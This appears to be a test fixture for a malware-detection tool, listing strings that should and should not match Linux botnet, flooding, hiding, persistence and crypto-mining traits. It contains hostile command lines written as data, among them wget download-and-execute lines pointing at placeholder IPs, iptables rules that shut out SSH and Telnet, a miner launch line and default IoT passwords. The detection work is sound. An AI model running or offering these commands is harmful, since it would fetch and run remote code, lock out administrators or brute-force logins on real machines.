// Programs that a machine is lent out by: bots, miners, and how they come and spread.
import { type Traits, texts } from './trait.ts'

const windowsBrowser = (version: string): string =>
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0 Safari/537.36`
const BROWSERS = [
  windowsBrowser('60'),
  windowsBrowser('61'),
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_6) AppleWebKit/603.3.8 (KHTML, like Gecko) Version/10.1.2 Safari/603.3.8',
  'Mozilla/5.0 (X11; Linux x86_64; rv:55.0) Gecko/20100101 Firefox/55.0',
]

export const BOTS: Traits = {
  elf_botnet: {
    hits: {
      'floods, passwords, busybox': texts(
        'udpflood',
        'synflood',
        'vizxv',
        'xc3511',
        'juantech',
        '/bin/busybox',
        '/dev/watchdog',
      ),
    },
    misses: { 'a router with a watchdog': texts('/bin/busybox', '/dev/watchdog', 'tftp -g') },
  },
  elf_floods: {
    hits: {
      'two floods': texts('udpflood', 'httpflood'),
      'a usage that names a target': texts('Usage: %s <target IP> <port> <threads> <time>'),
      'escapes written with the wrong stroke': texts('/x38/xFJ/x93/xID/x9A/x38/xFJ/x93/xID/x9A'),
      'a flood, and both watchdogs': texts('udpflood', '/dev/watchdog', '/dev/misc/watchdog'),
      'functions named for it': texts('attack_udp_plain', 'attack_tcp_syn', 'attack_method.c'),
      'one beside what bots scan and kill with': texts('scanner_init', 'killer_init', 'attack_udp_plain'),
    },
    misses: {
      'one word': texts('syn flood'),
      'both watchdogs': texts('/dev/watchdog', '/dev/misc/watchdog'),
      'a usage that names a host': texts('Usage: %s [-c count] <host>'),
      'two such functions': texts('flood_fill', 'attack_table'),
      'the scanner of an interpreter': texts('scanner_traverse', 'scanner_clear', 'scanner_dealloc', 'scanner_members'),
      'a path with short names': texts('/x1/x2/x3'),
    },
  },
  elf_hides_for_others: {
    hits: {
      'functions in two ways of writing': texts('hide_pid', 'unhide_pid'),
      'a process and a port': texts('HideFile', 'HidePidPort'),
    },
    misses: {
      'one function': texts('hide_file'),
      'windows and menus': texts('hide_menu', 'hide_window', 'hidden_by_user'),
    },
  },
  elf_shuts_others_out: {
    hits: {
      'both doors': texts('iptables -A INPUT -p tcp --dport 22 -j DROP', 'iptables -A INPUT -p tcp --dport 23 -j DROP'),
    },
    misses: {
      'one door': texts('iptables -A INPUT -p tcp --dport 23 -j DROP'),
      'other doors': texts(
        'iptables -A INPUT -p tcp --dport 137 -j DROP',
        'iptables -A INPUT -p tcp --dport 445 -j DROP',
      ),
      'opens them': texts(
        'iptables -A INPUT -p tcp --dport 22 -j ACCEPT',
        'iptables -A INPUT -p tcp --dport 23 -j ACCEPT',
      ),
    },
  },
  elf_takes_stock_and_settles: {
    hits: {
      'asks which system it is': texts('/proc/cpuinfo', '/etc/issue', '/etc/redhat-release', '/etc/rc%d.d/S99%s'),
      'reads the machine and writes a script': texts(
        '/proc/cpuinfo',
        '/proc/meminfo',
        '/proc/net/dev',
        '/etc/rc.d/rc.local',
      ),
    },
    misses: {
      'a monitor': texts('/proc/cpuinfo', '/proc/meminfo', '/proc/net/dev', '/proc/stat'),
      'a service manager': texts('/proc/cpuinfo', '/etc/rc.d/rc.local', '/etc/init.d/%s'),
    },
  },
  elf_obeys_irc: {
    hits: {
      'answers orders with attacks': texts(
        'NICK %s',
        'JOIN %s :%s',
        'PONG %s',
        'NOTICE %s :UDP <target> <port> <secs>',
      ),
    },
    misses: {
      'a chat client': texts('NICK %s', 'JOIN %s', 'PONG %s', 'PRIVMSG %s :%s', 'NOTICE %s :VERSION %s'),
      'a report without the protocol': texts('NOTICE %s :Packeting %s'),
    },
  },
  elf_poses_as_browsers: {
    hits: { 'four of two systems': texts(...BROWSERS) },
    misses: {
      'one browser': texts(...BROWSERS.slice(0, 1)),
      'four of one system': texts(...['58', '59', '60', '61'].map((version) => windowsBrowser(version))),
    },
  },
  elf_learns_own_address: {
    hits: { 'routes and a resolver': texts('/proc/net/route', '8.8.8.8') },
    misses: {
      'routes alone': texts('/proc/net/route'),
      'a resolver alone': texts('8.8.8.8'),
      'an address that is no resolver': texts('/proc/net/route', '192.0.2.8'),
    },
  },
  elf_mines_cryptocurrency: {
    hits: {
      'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level'),
      'starts a miner': texts(` -o pool.example:443 -u ${'4Ab'.repeat(31)} -p x -B`),
    },
    misses: {
      'names an algorithm': texts('cryptonight', 'hugepages'),
      'a user of another server': texts('-o server.example:443 -u somebody'),
    },
  },
  elf_kills_rivals: {
    hits: { 'two of them': texts('pkill -f xmr', 'kdevtmpfsi') },
    misses: { 'an ordinary kill': texts('killall -HUP sshd') },
  },
  elf_downloads_and_runs: {
    hits: { 'wget and chmod': texts('wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a') },
    misses: { 'wget alone': texts('wget http://example.com/') },
  },
  elf_spreads_by_passwords: {
    hits: {
      'tries them and fetches': {
        ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty', 'wget http://203.0.113.9/x; chmod +x x'),
        imports: ['ssh_userauth_password'],
      },
    },
    misses: {
      'tries them': { ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty'), imports: ['ssh_userauth_password'] },
    },
  },
}
